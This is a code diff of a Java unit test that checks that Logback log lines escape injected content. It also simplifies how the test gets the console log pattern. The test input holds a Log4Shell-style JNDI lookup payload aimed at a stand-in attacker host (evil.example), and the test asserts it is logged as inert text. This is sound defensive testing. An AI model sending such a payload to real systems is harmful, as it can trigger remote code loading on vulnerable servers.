@@ -7,11 +7,6 @@ import ch.qos.logback.classic.LoggerContext;
 import ch.qos.logback.classic.PatternLayout;
 import ch.qos.logback.classic.spi.LoggingEvent;
 import java.io.IOException;
-import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
-import java.nio.file.Path;
-import java.util.regex.Matcher;
-import java.util.regex.Pattern;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -26,16 +21,8 @@ class LogEscapingTest {
           + "${jndi:ldap://evil.example/a} {} %s %n";
 
   /** The pattern of the log files, or the one of the terminal. */
-  private static String pattern(String where) throws IOException {
-    if (where.equals(FILE)) {
-      return LogFiles.PATTERN;
-    }
-    String xml =
-        Files.readString(
-            Path.of("src", "main", "resources", "logback.xml"), StandardCharsets.UTF_8);
-    Matcher pattern = Pattern.compile("<pattern>(.*)</pattern>").matcher(xml);
-    assertThat(pattern.find()).isTrue();
-    return pattern.group(1);
+  private static String pattern(String where) {
+    return where.equals(FILE) ? LogFiles.PATTERN : ConsoleLog.PATTERN;
   }
 
   private static String written(String pattern, @Nullable Throwable cause) {
@@ -66,7 +53,7 @@ class LogEscapingTest {
 
   @ParameterizedTest
   @ValueSource(strings = {FILE, "terminal"})
-  void a_message_is_one_line_and_nothing_in_it_is_understood(String where) throws IOException {
+  void a_message_is_one_line_and_nothing_in_it_is_understood(String where) {
     String line = written(pattern(where), null);
     isHarmless(line);
     assertThat(line).contains("WARN", "${jndi:ldap://evil.example/a} {} %s %n");
